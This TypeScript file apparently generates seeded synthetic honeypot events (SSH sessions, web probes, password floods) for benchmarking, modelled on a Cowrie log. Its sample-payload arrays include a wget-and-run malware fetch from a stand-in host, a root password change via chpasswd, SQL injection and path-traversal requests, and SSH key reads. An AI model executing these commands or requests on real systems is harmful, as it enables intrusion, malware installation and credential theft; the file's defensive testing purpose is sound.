/**
 * Events to measure with, made from a seed so that every run sends the same. Their mix follows a real Cowrie log of 16,955
 * events (2018-05-10, kareiva): some two dozen sources are active at a time, a source stays for hundreds of events, a
 * session has four or five (connection, client, one to three sign-ins, end); 400 events in a row are of 27 sources and 92
 * sessions there. A sixth of what we send are web requests, which that log has none of.
 */

/** mulberry32: small, seeded, good enough to spread load. */
export function createRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

const users = ['root', 'admin', 'ubuntu', 'oracle', 'postgres', 'test', 'git', 'pi'];
const commands = [
  'uname -a',
  'cat /proc/cpuinfo | grep name | wc -l',
  'cd /tmp || cd /var/run; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh',
  "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
  'echo "root:Vq8Zx1"|chpasswd|bash',
  'ls -la /root/.ssh; cat ~/.ssh/authorized_keys',
];
const requests = [
  'GET / HTTP/1.1',
  'GET /wp-login.php HTTP/1.1',
  'GET /index.php?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20- HTTP/1.1',
  'POST /boaform/admin/formLogin username=admin&psd=Feefifofum',
  'GET /../../../../etc/passwd HTTP/1.1',
  'GET /.env HTTP/1.1',
];

export interface BenchEvent {
  service: string;
  source_ip: string;
  activity: string;
  payload: string;
  timestamp: string;
  extra: { [key: string]: string | number };
}

/** Sources active at a time, and how many events one of them stays for. */
const active = 24;
const stay = 400;

interface Visitor {
  source_ip: string;
  left: number;
  /** Events of the session still to come, last first. */
  script: (() => Omit<BenchEvent, 'source_ip' | 'timestamp'>)[];
}

export interface Course {
  /** Time from one event to the next. */
  stepMs: number;
  /** The share of events that come from a source which touches once and never again, as scanners of the internet do. */
  passing: number;
}

/** Without a course, time goes on by a tenth of a second an event, from `startMs`, and nobody passes. */
export function createEvents(
  seed: number,
  startMs = Date.parse('2026-11-25T08:00:00Z'),
  { stepMs, passing }: Course = { stepMs: 100, passing: 0 },
): () => BenchEvent {
  const random = createRandom(seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
  const hex = (): string =>
    Math.floor(random() * 2 ** 32)
      .toString(16)
      .padStart(8, '0');
  let made = 0;

  const arrive = (): Visitor => {
    const byte = (): number => Math.floor(random() * 256);
    return {
      source_ip: `${1 + Math.floor(random() * 222)}.${byte()}.${byte()}.${byte()}`,
      left: Math.ceil(2 * stay * random()),
      script: [],
    };
  };

  function openSession(): Visitor['script'] {
    if (random() < 0.45)
      return [
        () => ({
          service: 'HTTP',
          activity: 'http_request',
          payload: pick(requests),
          extra: { user_agent: 'Mozilla/5.0 (X11; Linux x86_64)' },
        }),
      ];
    const session = hex();
    const src_port = 1024 + Math.floor(random() * 60_000);
    const ssh = (activity: string, payload = '', more: BenchEvent['extra'] = {}) => ({
      service: 'SSH',
      activity,
      payload,
      extra: { session, src_port, ...more },
    });
    const script = [() => ssh('session_closed', '', { duration: 4 })];
    if (random() < 0.1) for (let i = 0; i < 3; i++) script.push(() => ssh('command', pick(commands)));
    for (let i = 0; i < 1 + Math.floor(random() * 3); i++)
      script.push(() =>
        ssh('login_attempt', '', { username: pick(users), password: `pass${Math.floor(random() * 1e6)}` }),
      );
    script.push(() => ssh('client_version', 'SSH-2.0-libssh2_1.4.3'));
    script.push(() => ssh('connection'));
    return script;
  }

  const visitors = Array.from({ length: active }, arrive);
  return () => {
    const timestamp = new Date(startMs + Math.floor(made++ * stepMs)).toISOString();
    if (passing > 0 && random() < passing) {
      const touch = random() < 0.5 ? openSession().pop()! : openSession()[0]!;
      return { source_ip: arrive().source_ip, timestamp, ...touch() };
    }
    const at = Math.floor(random() * active);
    let visitor = visitors[at]!;
    if (visitor.left-- <= 0 && visitor.script.length === 0) {
      visitor = arrive();
      visitors[at] = visitor;
    }
    if (visitor.script.length === 0) visitor.script = openSession();
    return { source_ip: visitor.source_ip, timestamp, ...visitor.script.pop()!() };
  };
}

/**
 * A flood: guesses at passwords from so many sources in turn, each a source's own session where `hasSessions`, which ends
 * after fifty guesses. Time goes on as in the mix.
 */
export function createFlood(
  sources: number,
  hasSessions: boolean,
  startMs = Date.parse('2026-11-25T08:00:00Z'),
): () => BenchEvent {
  const random = createRandom(sources);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
  let made = 0;
  return () => {
    const n = made++;
    const source = n % sources;
    const turn = Math.floor(n / sources / 50);
    return {
      service: 'SSH',
      source_ip: `${20 + (source >> 16)}.${(source >> 8) & 255}.${source & 255}.7`,
      activity: 'login_attempt',
      payload: '',
      timestamp: new Date(startMs + n * 100).toISOString(),
      extra: {
        username: pick(users),
        password: `pass${Math.floor(random() * 1e6)}`,
        src_port: 1024 + Math.floor(random() * 60_000),
        ...(hasSessions ? { session: `${source.toString(16)}-${turn}` } : {}),
      },
    };
  };
}
